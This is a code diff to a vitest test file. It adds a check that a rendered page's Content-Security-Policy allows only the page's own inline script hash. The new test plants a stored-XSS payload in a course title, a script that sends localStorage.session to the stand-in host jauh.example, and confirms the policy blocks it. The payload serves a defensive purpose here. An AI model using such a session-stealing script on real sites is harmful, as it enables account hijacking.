@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto'
 import { brotliDecompressSync, gunzipSync } from 'node:zlib'
 import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { publicUrl, startTestSite, type TestSite } from '#testing/test-site.ts'
@@ -8,6 +9,7 @@ import type { PageRenderer } from './renderer.ts'
 let renderings = 0
 let hold: Promise<void> | null = null
 const renderer: PageRenderer = {
+  inlineScripts: ['start()'],
   describe: (url) => ({
     cacheKey: url.pathname === '/segar' ? null : url.pathname + url.search,
     isFreeText: url.search !== '',
@@ -76,6 +78,16 @@ describe('a public page', () => {
     expect(policy.match(/sha256-/g)).toHaveLength(1)
     expect(policy).toContain("script-src 'self' 'sha256-")
     expect(policy).toContain('http://pay.test')
+  })
+
+  test('that contains a script which is not its own has a policy that forbids it', async () => {
+    const foreign = 'fetch("https://jauh.example/"+localStorage.session)'
+    await site.createCourse({ title: `<script>${foreign}</script>` })
+    const page = await get('/asing')
+    expect(await page.text()).toContain(`<script>${foreign}</script>`)
+    const policy = page.headers.get('content-security-policy') ?? ''
+    const hashOf = (script: string) => createHash('sha256').update(script).digest('base64')
+    expect([policy.includes(hashOf('start()')), policy.includes(hashOf(foreign))]).toEqual([true, false])
   })
 
   test('is invalidated when something it shows changes', async () => {
